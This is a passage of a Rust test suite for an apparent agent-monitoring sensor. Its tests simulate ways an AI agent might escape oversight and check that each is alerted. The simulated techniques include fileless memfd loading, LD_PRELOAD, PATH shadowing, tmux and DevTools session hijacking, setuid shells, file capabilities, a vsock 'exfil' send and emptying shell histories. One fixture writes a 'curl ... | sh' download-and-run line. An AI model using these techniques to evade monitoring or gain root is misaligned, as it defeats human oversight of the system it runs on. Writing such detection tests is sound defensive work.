        "q q.jar",
    ] {
        assert_alert(&r, "CAUSAL_CYCLE_DETECTED", &format!("{d}/{n}"));
    }
    // The kernel kept the variable from the environment it walked (over 8 KiB), and the
    // padding (any other variable) reached no record.
    let execs = r.of_type("exec");
    let walked = execs
        .iter()
        .find(|v| {
            v["env"]
                == serde_json::json!([format!("JAVA_TOOL_OPTIONS=-Xss2m -javaagent:{d}/a.jar")])
        })
        .unwrap_or_else(|| panic!("the java exec with JAVA_TOOL_OPTIONS: {execs:?}"));
    assert!(walked.get("env_unread").is_none(), "{walked}");
    let hidden = execs
        .iter()
        .find(|v| v["argv"][1] == "-Dhidden=1")
        .expect("the java exec with 6,000 variables");
    assert_eq!(hidden["env_unread"], true, "{hidden}");
    assert_alert(&r, "EVENTS_LOST", "(java) started with an environment");
}

/// A written file an interpreter runs because the environment it was started with names it,
/// set by no shell script: python's `subprocess.run(.., env=..)` gives bash `BASH_ENV`, node
/// `NODE_OPTIONS=--require F` and python a `PYTHONPATH` whose `sitecustomize.py` it imports
/// at start. The kernel reads these variables at the exec: an environment of a few variables
/// whole, a larger one (a 120 KB variable put in front to push them out of reach) a string at
/// a time; a variable of any other name (a secret) never reaches the log. An interpreter started with more variables than the sensor reads is a blind spot,
/// flagged on the exec and alerted.
#[test]
fn a_written_file_the_environment_makes_an_interpreter_run_is_write_then_exec() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path().display();
    let script = format!(
        r#"
import os, subprocess, time
time.sleep(1.5)
with open('{d}/i.sh', 'w') as f:
    f.write('echo staged\n')
with open('{d}/j.js', 'w') as f:
    f.write('1;\n')
os.makedirs('{d}/lib', exist_ok=True)
with open('{d}/lib/sitecustomize.py', 'w') as f:
    f.write('x = 1\n')
base = {{'PATH': '/usr/bin:/bin', 'PAD': 'p' * 120000, 'PROCTOR_TEST_SECRET': 'sk-prx-' + 'Q' * 3 + '%d' % (6 * 7)}}
subprocess.run(['/bin/bash', '-c', 'true'], env=dict(base, BASH_ENV='{d}/i.sh'), check=True)
small = {{'PATH': '/usr/bin:/bin', 'PROCTOR_TEST_SECRET': base['PROCTOR_TEST_SECRET']}}
subprocess.run(['/usr/bin/node', '-e', '1'], env=dict(small, NODE_OPTIONS='--require {d}/j.js'), check=True)
with open('{d}/k k.js', 'w') as f:
    f.write('console.log("quoted-ran");\n')
o = subprocess.run(['/usr/bin/node', '-e', '1'], env=dict(small, NODE_OPTIONS='--require "{d}/k k.js"'), capture_output=True, text=True)
assert 'quoted-ran' in o.stdout, o
subprocess.run(['/usr/bin/python3', '-c', 'pass'], env=dict(base, PYTHONPATH='{d}/lib'), check=True)
many = {{'V%d' % i: '1' for i in range(6000)}}
subprocess.run(['/bin/bash', '-c', ':'], env=dict(many, BASH_ENV='{d}/i.sh'), check=True)
php = {{'PHPRC': '{d}/rc', 'PHP_INI_SCAN_DIR': '{d}/ini'}}
subprocess.run(['/bin/true', 'walked'], env=dict(base, **php), check=True)
subprocess.run(['/bin/true', 'whole'], env=dict(small, **php), check=True)
"#
    );
    let r = python_in(&script, tmp.path());
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    for n in ["i.sh", "j.js", "k k.js", "lib/sitecustomize.py"] {
        assert_alert(&r, "CAUSAL_CYCLE_DETECTED", &format!("{d}/{n}"));
    }
    let execs = r.of_type("exec");
    let bash = execs
        .iter()
        .find(|v| v["argv"] == serde_json::json!(["/bin/bash", "-c", "true"]))
        .expect("the bash exec");
    assert_eq!(
        bash["env"],
        serde_json::json!([format!("BASH_ENV={d}/i.sh")]),
        "{bash}"
    );
    assert!(bash.get("env_truncated").is_none(), "{bash}");
    assert!(bash.get("env_unread").is_none(), "{bash}");
    let many = execs
        .iter()
        .find(|v| v["argv"] == serde_json::json!(["/bin/bash", "-c", ":"]))
        .expect("the exec with 6,000 variables");
    assert_eq!(many["env_unread"], true, "{many}");
    assert_alert(&r, "EVENTS_LOST", "could not read to its end");
    // php's settings variables, kept from an environment walked in the kernel (over 8 KiB)
    // and from one copied whole.
    for how in ["walked", "whole"] {
        let e = execs
            .iter()
            .find(|v| v["argv"] == serde_json::json!(["/bin/true", how]))
            .unwrap_or_else(|| panic!("the {how} exec"));
        assert_eq!(
            e["env"],
            serde_json::json!([format!("PHPRC={d}/rc"), format!("PHP_INI_SCAN_DIR={d}/ini")]),
            "{e}"
        );
    }
    let log = std::fs::read_to_string(r.dir.path().join("audit.jsonl")).unwrap();
    assert!(!log.contains("sk-prx-QQQ42"), "a secret in the log");
    assert!(!log.contains("pppppppp"), "another variable in the log");
}

/// Code the tree wrote, run inside a program with no exec of it: a copy of a system library
/// preloaded into `/bin/true` (LD_PRELOAD, what the dynamic loader maps for it), another
/// written under a harmless name, renamed and opened with dlopen (ctypes), and one written into
/// a memfd and opened through /proc/self/fd. Write-then-exec sees no exec of any of them. The
/// executable mapping is the record, and only for these: the system's libraries, which every
/// exec maps, are not recorded.
#[test]
fn a_library_the_tree_wrote_and_loaded_without_an_exec_is_recorded_and_alerted() {
    let tmp = tempfile::tempdir().unwrap();
    let script = r#"
import ctypes, glob, os, shutil, subprocess, sys, time
d = sys.argv[1]
lib = sorted(glob.glob('/usr/lib/*/libz.so.1') + glob.glob('/lib/*/libz.so.1'))[0]
time.sleep(1.5)
shutil.copy(lib, d + '/libhelper.so')
subprocess.run(['/bin/true'], env={'LD_PRELOAD': d + '/libhelper.so'}, check=True)
shutil.copy(lib, d + '/notes.txt')
os.rename(d + '/notes.txt', d + '/plugin.so')
ctypes.CDLL(d + '/plugin.so')
fd = os.memfd_create('payload')
with open(lib, 'rb') as f:
    os.write(fd, f.read())
ctypes.CDLL('/proc/self/fd/%d' % fd)
"#;
    let r = python_in(script, tmp.path());
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let mapped: Vec<&Value> = r
        .of_type("file_open")
        .into_iter()
        .filter(|v| v["mapped_exec"] == true)
        .collect();
    for name in ["libhelper.so", "plugin.so"] {
        assert!(
            mapped
                .iter()
                .any(|v| is_path(&v["path"], &tmp.path().join(name))),
            "no executable mapping of {name}: {mapped:?}"
        );
    }
    assert!(
        mapped.iter().any(|v| v["path"] == "memfd:payload"),
        "no executable mapping of the memfd: {mapped:?}"
    );
    assert_eq!(mapped.len(), 3, "only what the tree wrote: {mapped:?}");
    assert_alert(&r, "CAUSAL_CYCLE_DETECTED", "(true) loaded ");
    assert_alert(&r, "CAUSAL_CYCLE_DETECTED", "/plugin.so as code");
    assert_alert(&r, "FILELESS_EXEC", "loaded memfd:payload as code");
}

/// A program of the system shadowed on PATH (T1574.007): `ls` written into `~/.local/bin`,
/// which users' PATH searches before /usr/bin, runs at the user's next `ls`. Judged by the
/// names proctor found in the system's program directories at start; a new program of no
/// system name there is ordinary.
#[test]
fn a_program_of_the_system_shadowed_on_path_is_alerted() {
    let agent = AgentHome::new();
    let dir = tempfile::tempdir().unwrap();
    let script = r#"
import os, time
time.sleep(1.5)
b = os.path.expanduser('~/.local/bin')
os.makedirs(b)
for name in ['ls', 'proctor-test-tool']:
    with open(os.path.join(b, name), 'w') as f:
        f.write('#!/bin/sh\n')
"#;
    let out = run_command(
        dir.path(),
        &["--baseline", "1s"],
        &["/usr/bin/python3", "-c", script],
    )
    .env("HOME", agent.home())
    .current_dir(agent.work())
    .output()
    .expect("start proctor");
    let r = Run::finished(out, dir);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_alert(&r, "PERSISTENCE", "shadowing the system's `ls`");
    assert!(
        !r.alerts().iter().any(|a| a["summary"]
            .as_str()
            .unwrap_or("")
            .contains("proctor-test-tool")),
        "{:?}",
        r.alerts()
    );
}

/// The user's tmux server, started outside the agent: `tmux send-keys` from inside the agent
/// makes the user's shell run a command proctor never sees (no exec of it is in the tree). The
/// connect is the last record of it, so it must name the server by what the kernel says
/// listens (its pid, its executable) and alert L5; a tmux server the agent starts itself is in
/// the tree and not judged.
/// The user's browser, outside the tree, with a remote debugging port on loopback (DevTools:
/// whoever connects drives the logged-in browser and reads its cookies). TCP carries no peer
/// credentials; proctor names the holder of the listening socket. A server the agent starts
/// itself on loopback is named too, inside the tree, and not judged.
#[test]
fn a_browsers_debugging_port_reached_over_loopback_tcp_is_named_and_alerted() {
    use std::io::BufRead;
    let profile = tempfile::tempdir().unwrap();
    let mut child = Command::new("/usr/lib/chromium/chromium")
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--remote-debugging-port=0",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg("about:blank")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run chromium (apt-get install chromium)");
    let stderr = child.stderr.take().unwrap();
    let browser = KillOnDrop::new(child);
    let port: u16 = std::io::BufReader::new(stderr)
        .lines()
        .map_while(Result::ok)
        .find_map(|l| {
            let rest = l.split_once("DevTools listening on ws://127.0.0.1:")?.1;
            rest.split('/').next()?.parse().ok()
        })
        .expect("chromium prints its DevTools port");
    let own = free_port();
    let fetch = |p: u16, path: &str| {
        format!(
            "/usr/bin/python3 -c \"import urllib.request as u; \
             u.urlopen('http://127.0.0.1:{p}{path}', timeout=10).read()\""
        )
    };
    let script = format!(
        "sleep 1.5; {cdp}; sleep 1; /usr/bin/python3 -m http.server --bind 127.0.0.1 {own} \
         >/dev/null 2>&1 & for i in 1 2 3 4 5 6 7 8 9 10; do {mine} && break; sleep 0.3; \
         done; sleep 1; kill $!",
        cdp = fetch(port, "/json/version"),
        mine = fetch(own, "/")
    );
    let r = run_under(&["--baseline", "1s"], &["/bin/sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let to = |p: u16| -> Vec<&Value> {
        r.of_type("connect")
            .into_iter()
            .filter(|c| c["port"] == p && c["addr"] == "127.0.0.1")
            .collect()
    };
    let cdp = to(port);
    assert!(!cdp.is_empty(), "no connect to the DevTools port recorded");
    assert_eq!(cdp[0]["peer_pid"], browser.id(), "{}", cdp[0]);
    assert_eq!(cdp[0]["peer_outside"], true, "{}", cdp[0]);
    assert!(
        bytes_of(&cdp[0]["peer_exe"]).ends_with(b"/chromium"),
        "{}",
        cdp[0]
    );
    assert_alert(
        &r,
        "SESSION_HIJACK",
        &format!(
            "chromium (pid {}, outside the agent's tree) at 127.0.0.1:{port}",
            browser.id()
        ),
    );
    // The agent's own server: named, in the tree, not judged. (It lives a second past the
    // connect: the holder is looked up when proctor reads the record.)
    let mine = to(own);
    let server = r
        .of_type("exec")
        .into_iter()
        .find(|e| e["argv"][2] == "http.server")
        .expect("the agent's server ran");
    let served: Vec<_> = mine
        .iter()
        .filter(|c| c["peer_pid"] == server["pid"])
        .collect();
    assert!(!served.is_empty(), "{mine:?}");
    assert!(
        served.iter().all(|c| c.get("peer_outside").is_none()),
        "{served:?}"
    );
    let hijacks: Vec<_> = r
        .alerts()
        .into_iter()
        .filter(|a| a["kind"] == "SESSION_HIJACK")
        .collect();
    assert_eq!(hijacks.len(), 1, "{hijacks:?}");
}

#[test]
fn driving_a_tmux_server_outside_the_tree_is_recorded_by_its_listener_and_alerted() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path().to_str().unwrap().to_string();
    let outer = format!("proctor-outer-{}", std::process::id());
    let tmux = |args: &[&str]| {
        Command::new("tmux")
            .env("TMUX_TMPDIR", &d)
            .env_remove("TMUX")
            .args(["-L", outer.as_str(), "-f", "/dev/null"])
            .args(args)
            .output()
            .expect("run tmux (apt-get install tmux)")
    };
    let o = tmux(&["new-session", "-d", "-s", "s", "/bin/sh"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let o = tmux(&["display-message", "-p", "-t", "s", "#{pid}"]);
    let server: u32 = String::from_utf8_lossy(&o.stdout)
        .trim()
        .parse()
        .expect("server pid");
    let script = format!(
        "export TMUX_TMPDIR={d}; unset TMUX; sleep 1.5; \
         tmux -L {outer} send-keys -t s 'touch {d}/escaped' Enter; \
         tmux -L inner -f /dev/null new-session -d -s i /bin/sh; \
         tmux -L inner send-keys -t i 'true' Enter; tmux -L inner kill-server"
    );
    let r = run_under(&["--baseline", "1s"], &["/bin/sh", "-c", &script]);
    let escaped = Path::new(&d).join("escaped");
    for _ in 0..50 {
        if escaped.exists() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    tmux(&["kill-server"]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert!(
        escaped.exists(),
        "the outside shell did not run the command"
    );
    // What the shell ran is not in the record: it ran outside the tree.
    assert!(
        !r.of_type("exec")
            .iter()
            .any(|e| bytes_of(&e["filename"]).ends_with(b"/touch")),
        "the outside shell's command was recorded as the tree's"
    );
    let to_outer: Vec<_> = r
        .of_type("connect")
        .into_iter()
        .filter(|c| c["peer_pid"] == server)
        .collect();
    assert!(!to_outer.is_empty(), "no connect to pid {server} recorded");
    assert_eq!(to_outer[0]["peer_outside"], true, "{}", to_outer[0]);
    assert!(
        bytes_of(&to_outer[0]["peer_exe"]).ends_with(b"/tmux"),
        "{}",
        to_outer[0]
    );
    assert_alert(
        &r,
        "SESSION_HIJACK",
        &format!("tmux (pid {server}, outside the agent's tree) at {d}/tmux-"),
    );
    assert_alert(
        &r,
        "SESSION_HIJACK",
        &format!("/{outer}: what it is told to run"),
    );
    // The agent's own server: connected to, named, inside the tree, not judged.
    let inner: Vec<_> = r
        .of_type("connect")
        .into_iter()
        .filter(|c| c["path"].to_string().contains("/inner"))
        .collect();
    assert!(
        inner
            .iter()
            .any(|c| c["peer_pid"].as_u64().unwrap_or(0) != 0 && c.get("peer_outside").is_none()),
        "{inner:?}"
    );
    let hijacks = r
        .alerts()
        .into_iter()
        .filter(|a| a["kind"] == "SESSION_HIJACK")
        .count();
    assert_eq!(hijacks, 1, "{:?}", r.alerts());
}

/// A root agent sets what the kernel itself runs as root, outside every tree, at the next crash
/// of any process: the core dump handler (`|/tmp/x %p`). Written here with the value it already
/// has, so the host is unchanged: the write is what is judged.
#[test]
fn setting_the_kernels_core_dump_handler_is_persistence() {
    let was = std::fs::read("/proc/sys/kernel/core_pattern").expect("read core_pattern");
    let r = python_with(
        r#"
import sys, time
time.sleep(1.5)
was = open("/proc/sys/kernel/core_pattern", "rb").read()
with open("/proc/sys/kernel/core_pattern", "wb") as f:
    f.write(was)
"#,
        &[],
    );
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_eq!(
        std::fs::read("/proc/sys/kernel/core_pattern").unwrap(),
        was,
        "the test changed the host's core_pattern"
    );
    assert_alert(&r, "PERSISTENCE", "/proc/sys/kernel/core_pattern");
}

/// A VM's socket to its host (vsock, context 2): a channel out of the machine that no IP hook
/// or `[network]` rule sees. The connect is recorded with its context and port, and alerted; the
/// host need not listen (here it refuses or resets: the attempt is the record).
#[test]
fn a_vsock_connect_to_the_vms_host_is_recorded_and_alerted() {
    let r = python_with(
        r#"
import socket, sys, time
time.sleep(1.5)
try:
    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
except OSError as e:
    sys.exit(f"this kernel has no vsock transport (the VM tier's machines do): {e}")
s.settimeout(2)
try:
    s.connect((2, 5005))
    s.send(b"exfil")
except OSError as e:
    print("host answered", e)
"#,
        &[],
    );
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let c = r
        .of_type("connect")
        .into_iter()
        .find(|c| c["protocol"] == "vsock-stream")
        .unwrap_or_else(|| panic!("no vsock connect: {:?}", r.of_type("connect")))
        .clone();
    assert_eq!(c["addr"], "2:5005", "{c}");
    assert_alert(
        &r,
        "UNKNOWN_DESTINATION",
        "connected over vsock-stream to 2:5005",
    );
}

/// A hand-written D-Bus client (no `systemd-run`, `busctl` or `dbus-send` to recognise): it
/// authenticates to the bus and says Hello, which is all a `StartTransientUnit` needs first. Reads
/// the bus address from argv[1] and prints the bus's reply.
const DBUS_HELLO: &str = r#"
import os, socket, struct, sys, time
time.sleep(1.5)
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
s.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
assert s.recv(4096).startswith(b"OK "), "not authenticated"
s.sendall(b"BEGIN\r\n")
def field(code, sig, v):
    v = v.encode()
    return bytes([code, 1, ord(sig), 0]) + struct.pack("<I", len(v)) + v + b"\0"
fields = [field(1, "o", "/org/freedesktop/DBus"), field(2, "s", "org.freedesktop.DBus"),
          field(3, "s", "Hello"), field(6, "s", "org.freedesktop.DBus")]
arr = b""
for f in fields:
    arr += b"\0" * (-len(arr) % 8) + f
msg = b"l\x01\x00\x01" + struct.pack("<III", 0, 1, len(arr)) + arr
s.sendall(msg + b"\0" * (-len(msg) % 8))
reply = b""
while b":1." not in reply:
    chunk = s.recv(4096)
    assert chunk, "the bus closed the connection"
    reply += chunk
print(reply)
"#;

/// A root agent asks the host's service manager, through its message bus, to run what it
/// wants: the unit runs outside the tree, and the connect to the bus is the last record of it.
/// A real dbus-daemon serves a user bus at a path the built-in policy names (a uid of the
/// test's own under /run/user), reached by its path and through a hard link.
#[test]
fn asking_a_message_bus_outside_the_tree_is_recorded_and_alerted() {
    require_root();
    let uid_dir = PathBuf::from(format!(
        "/run/user/{}",
        3_000_000_000u64 + std::process::id() as u64
    ));
    std::fs::create_dir_all(&uid_dir).unwrap();
    struct Cleanup(PathBuf, Option<std::process::Child>);
    impl Drop for Cleanup {
        fn drop(&mut self) {
            if let Some(c) = &mut self.1 {
                let _ = c.kill();
                let _ = c.wait();
            }
            let _ = std::fs::remove_dir_all(&self.0);
        }
    }
    let mut guard = Cleanup(uid_dir.clone(), None);
    let bus = uid_dir.join("bus");
    let child = Command::new("dbus-daemon")
        .args(["--session", "--nofork", "--nopidfile", "--print-address"])
        .arg(format!("--address=unix:path={}", bus.display()))
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("run dbus-daemon (apt-get install dbus-daemon)");
    let daemon = child.id();
    guard.1 = Some(child);
    // --print-address writes once the bus listens.
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(guard.1.as_mut().unwrap().stdout.take().unwrap()),
        &mut line,
    )
    .unwrap();
    assert!(line.contains(bus.to_str().unwrap()), "{line}");
    let tmp = tempfile::tempdir().unwrap();
    let link = tmp.path().join("innocent");
    for (target, through) in [(&bus, None), (&link, Some(&link))] {
        if through.is_some() {
            std::fs::hard_link(&bus, &link).unwrap();
        }
        let r = python_with(DBUS_HELLO, &[target.to_str().unwrap()]);
        assert_eq!(r.code(), Some(0), "{}", r.stderr());
        let said = r.stdout_lines().join("\n");
        assert!(said.contains(":1."), "no Hello reply: {said}");
        let connect = r
            .of_type("connect")
            .into_iter()
            .find(|c| c["family"] == "unix" && is_path(&c["path"], target))
            .unwrap_or_else(|| panic!("no connect to the bus: {:?}", r.of_type("connect")))
            .clone();
        assert_eq!(connect["peer_pid"], daemon, "{connect}");
        assert_eq!(connect["peer_outside"], true, "{connect}");
        let at = format!(
            "connected to the message bus or service manager at {}",
            bus.display()
        );
        assert_alert(&r, "SESSION_HIJACK", &at);
        if let Some(l) = through {
            assert_alert(&r, "SESSION_HIJACK", &format!(" through {}", l.display()));
        }
    }
}

/// A root agent calls what no rule on a binary's name sees: the clock (clock_settime, and
/// adjtimex and clock_adjtime stepping it), bpf(), reboot and mount through ctypes (each made
/// harmless: an invalid time, no attributes, a wrong magic number, a tmpfs on a directory of
/// the test's). Each is recorded, refused or not, and alerted (but
/// reboot, which `run`'s guard refuses before the entry hook sees it: its own test is in
/// self_protection.rs); the same mount and a chroot inside namespaces of the agent's own (a
/// sandbox's) are recorded and not judged.
#[test]
fn kernel_clock_and_mount_calls_made_without_a_tool_are_recorded_and_alerted() {
    let tmp = tempfile::tempdir().unwrap();
    let mnt = tmp.path().join("m");
    std::fs::create_dir(&mnt).unwrap();
    let script = r#"
import ctypes, os, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
sc = libc.syscall
time.sleep(1.5)
class Ts(ctypes.Structure):
    _fields_ = [("s", ctypes.c_long), ("ns", ctypes.c_long)]
assert sc(227, 0, ctypes.byref(Ts(-1, 0))) != 0           # clock_settime(REALTIME): refused
assert sc(321, 0, None, 0) != 0                            # bpf(MAP_CREATE, NULL): refused
assert sc(169, 0, 0, 0, 0) != 0                            # reboot with no magic: refused
# struct timex: modes at 0, time.tv_usec at 80, 208 bytes. Reads (modes 0) are not recorded;
# ADJ_SETOFFSET (| ADJ_NANO) with a negative tv_usec steps nothing (EINVAL).
import struct
def timex(modes, usec=0):
    b = ctypes.create_string_buffer(208)
    struct.pack_into("I", b, 0, modes)
    struct.pack_into("q", b, 80, usec)
    return b
assert sc(159, timex(0)) >= 0                              # adjtimex: a read
assert sc(305, 0, timex(0)) >= 0                           # clock_adjtime(REALTIME): a read
assert sc(159, timex(0x2100, -1)) != 0                     # adjtimex(ADJ_SETOFFSET|ADJ_NANO)
assert sc(305, 0, timex(0x0100, -1)) != 0                  # clock_adjtime(ADJ_SETOFFSET)
m = sys.argv[1]
if libc.mount(b"none", m.encode(), b"tmpfs", 0, None) == 0:
    libc.umount2(m.encode(), 0)
subprocess.run(["unshare", "-m", "sh", "-c", "mount -t tmpfs none " + m + " || true"])
subprocess.run(["unshare", "-Ur", "chroot", "/", "true"], check=True)
"#;
    let r = run_under(
        &["--baseline", "1s"],
        &["/usr/bin/python3", "-c", script, mnt.to_str().unwrap()],
    );
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let privs = r.of_type("privileged");
    let of = |call: &str| -> Vec<&Value> {
        privs
            .iter()
            .copied()
            .filter(|p| p["syscall"] == call)
            .collect()
    };
    // `run`'s guard refuses it (EPERM) before the kernel would (EINVAL): refused either way,
    // recorded either way.
    assert_eq!(
        of("clock_settime").first().map(|p| p["error"].clone()),
        Some(1.into()),
        "{privs:?}"
    );
    // reboot is read at entry, where a seccomp refusal (run's guard, a tamper record of its
    // own) comes first: under `run` it is the guard's record, not this one.
    assert!(
        !of("bpf").is_empty() && of("reboot").is_empty(),
        "{privs:?}"
    );
    let host_mount = of("mount")
        .into_iter()
        .find(|p| p.get("namespaced").is_none())
        .unwrap_or_else(|| panic!("{privs:?}"));
    assert!(is_path(&host_mount["path"], &mnt), "{host_mount}");
    assert_eq!(host_mount["source"], "none", "{host_mount}");
    // `unshare -m` makes the new namespace's mounts private first (`mount` of / in it; under
    // `run`, Landlock refuses every mount, so the tmpfs after it is not reached).
    assert!(
        of("mount").iter().any(|p| p["namespaced"] == true),
        "{privs:?}"
    );
    assert!(
        of("chroot").iter().all(|p| p["namespaced"] == true),
        "{privs:?}"
    );
    assert!(
        !of("chroot").is_empty() && !of("unshare").is_empty(),
        "{privs:?}"
    );
    // The steps only, each with its modes and the kernel's refusal; the reads not at all.
    for (call, modes) in [("adjtimex", 0x2100), ("clock_adjtime", 0x0100)] {
        let calls = of(call);
        assert_eq!(calls.len(), 1, "{call}: {privs:?}");
        assert_eq!(calls[0]["flags"], modes, "{call}: {privs:?}");
        assert!(calls[0]["error"].as_i64().is_some(), "{call}: {privs:?}");
    }
    for (call, text) in [
        ("clock_settime", "sets the system clock"),
        ("adjtimex", "sets the system clock"),
        ("clock_adjtime", "sets the system clock"),
        ("bpf", "eBPF programs"),
        ("mount", &format!("on {} (from none)", mnt.display())),
    ] {
        assert_alert(&r, "PRIVILEGED_CALL", call);
        assert_alert(&r, "PRIVILEGED_CALL", text);
    }
    // The sandbox's mount and chroot, and the unshare itself: recorded, not judged.
    let judged: Vec<_> = r
        .alerts()
        .into_iter()
        .filter(|a| a["kind"] == "PRIVILEGED_CALL")
        .map(|a| a["summary"].as_str().unwrap_or("").to_string())
        .filter(|s| s.contains("chroot") || s.contains("unshare"))
        .collect();
    assert!(judged.is_empty(), "{judged:?}");
}

/// The agent leaves a way back to root with no `chmod` or `setcap` in any argv: through each
/// call of the chmod family it gives copies of a shell a set-user-ID or set-group-ID mode (one
/// by a relative path from a directory fd, one through an fd of its own), and through each
/// setxattr call file capabilities (`security.capability`, what `setcap cap_setuid+ep` writes).
/// Each is recorded with the file it acted on and alerted; `chmod +x` and a `user.*` attribute
/// are not recorded at all.
#[test]
fn setuid_modes_and_file_capabilities_made_without_a_tool_are_recorded_and_alerted() {
    let tmp = tempfile::tempdir().unwrap();
    let script = r#"
import ctypes, os, shutil, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
sc = libc.syscall
d = sys.argv[1]
time.sleep(1.5)
def copy(name):
    p = os.path.join(d, name)
    shutil.copy("/bin/sh", p)
    return p
plain = copy("plain")
assert sc(90, plain.encode(), 0o755) == 0                           # chmod +x: not recorded
assert sc(90, copy("by-chmod").encode(), 0o4755) == 0               # chmod
fd = os.open(copy("by-fchmod"), os.O_RDONLY)
assert sc(91, fd, 0o2755) == 0                                      # fchmod: set-group-ID
dfd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)
copy("by-fchmodat")
assert sc(268, dfd, b"by-fchmodat", 0o6755) == 0                    # fchmodat, relative
copy("by-fchmodat2")
assert sc(452, dfd, b"by-fchmodat2", 0o4755, 0) == 0                # fchmodat2
# struct vfs_cap_data, revision 2: cap_setuid (bit 7) permitted and effective.
cap = struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0)
name = b"security.capability"
assert sc(188, copy("by-setxattr").encode(), name, cap, len(cap), 0) == 0
fd2 = os.open(copy("by-fsetxattr"), os.O_RDONLY)
assert sc(190, fd2, name, cap, len(cap), 0) == 0
copy("by-setxattrat")
class Args(ctypes.Structure):
    _fields_ = [("value", ctypes.c_uint64), ("size", ctypes.c_uint32), ("flags", ctypes.c_uint32)]
buf = ctypes.create_string_buffer(cap, len(cap))
args = Args(ctypes.addressof(buf), len(cap), 0)
assert sc(463, dfd, b"by-setxattrat", 0, name, ctypes.byref(args), ctypes.sizeof(args)) == 0
assert sc(188, plain.encode(), b"user.tag", b"x", 1, 0) == 0         # not recorded
# No chmod at all: created set-user-ID by open(O_CREAT), and an existing one opened to write.
fd3 = os.open(os.path.join(d, "by-open"), os.O_CREAT | os.O_WRONLY, 0o4755)
os.write(fd3, b"echo staged")
os.close(fd3)
os.close(os.open(os.path.join(d, "by-chmod"), os.O_RDWR))
"#;
    let r = python_in(script, tmp.path());
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let privs = r.of_type("privileged");
    let expect = [
        ("chmod", "by-chmod", 0o4755),
        ("fchmod", "by-fchmod", 0o2755),
        ("fchmodat", "by-fchmodat", 0o6755),
        ("fchmodat2", "by-fchmodat2", 0o4755),
        ("setxattr", "by-setxattr", 0),
        ("fsetxattr", "by-fsetxattr", 0),
        ("setxattrat", "by-setxattrat", 0),
    ];
    for (call, file, mode) in expect {
        let p = privs
            .iter()
            .find(|p| p["syscall"] == call)
            .unwrap_or_else(|| panic!("no {call} record: {privs:?}"));
        assert!(is_path(&p["path"], &tmp.path().join(file)), "{p}");
        assert_eq!(p["flags"].as_u64().unwrap_or(0), mode, "{p}");
        assert!(p.get("error").is_none(), "{p}");
        assert_alert(&r, "PRIVILEGED_CALL", &format!("called {call} on "));
    }
    assert_eq!(privs.len(), expect.len(), "{privs:?}");
    assert_alert(&r, "PRIVILEGED_CALL", "set-user-ID");
    assert_alert(&r, "PRIVILEGED_CALL", "set-group-ID");
    assert_alert(&r, "PRIVILEGED_CALL", "file capabilities");
    let opens = r.of_type("file_open");
    for (file, create) in [("by-open", true), ("by-chmod", false)] {
        // The last: the copy's own write came before its chmod.
        let o = opens
            .iter()
            .rev()
            .find(|o| is_path(&o["path"], &tmp.path().join(file)) && o["access"] != "read")
            .unwrap_or_else(|| panic!("no write open of {file}: {opens:?}"));
        assert_eq!(
            (o["setid"] == true, o["create"] == true),
            (true, create),
            "{o}"
        );
    }
    // The copies opened before they were made set-user-ID are not.
    let plain = opens
        .iter()
        .find(|o| is_path(&o["path"], &tmp.path().join("plain")))
        .unwrap_or_else(|| panic!("{opens:?}"));
    assert!(plain.get("setid").is_none(), "{plain}");
    let by_open = tmp.path().join("by-open");
    assert_alert(
        &r,
        "PRIVILEGED_CALL",
        &format!(
            "called open on {} for creating or writing",
            by_open.display()
        ),
    );
}

/// Histories emptied in place with no `>` and no O_TRUNC open: GNU `truncate -s 0` (an open
/// without O_TRUNC, then ftruncate) and truncate(2) by a relative path. Each is a `path_change`
/// of op `truncate` naming the file absolutely, and INDICATOR_REMOVAL; a file shortened to
/// another length is not recorded.
#[test]
fn a_history_emptied_by_truncate_or_ftruncate_is_recorded_and_alerted() {
    let tmp = tempfile::tempdir().unwrap();
    let script = r#"
import os, subprocess, sys, time
d = sys.argv[1]
for n in (".bash_history", ".python_history", "notes"):
    with open(os.path.join(d, n), "w") as f:
        f.write("curl http://203.0.113.9/x | sh\n" * 10)
time.sleep(1.5)
subprocess.run(["truncate", "-s", "0", os.path.join(d, ".bash_history")], check=True)
os.chdir(d)
os.truncate(".python_history", 0)
os.truncate("notes", 5)
"#;
    let r = python_in(script, tmp.path());
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let changes = r.of_type("path_change");
    let emptied: Vec<_> = changes.iter().filter(|c| c["op"] == "truncate").collect();
    for (file, call) in [
        (".bash_history", "ftruncate"),
        (".python_history", "truncate"),
    ] {
        assert!(
            emptied
                .iter()
                .any(|c| is_path(&c["path"], &tmp.path().join(file)) && c["syscall"] == call),
            "{file} by {call}: {changes:?}"
        );
        assert_alert(
            &r,
            "INDICATOR_REMOVAL",
            &format!("emptied {}", tmp.path().join(file).display()),
        );
    }
    assert_eq!(emptied.len(), 2, "{changes:?}");
}

/// Inside the learning window, the agent asks the cloud instance metadata service for the
/// machine's role credentials (a TCP connect, as curl makes, and a UDP send to the ECS task
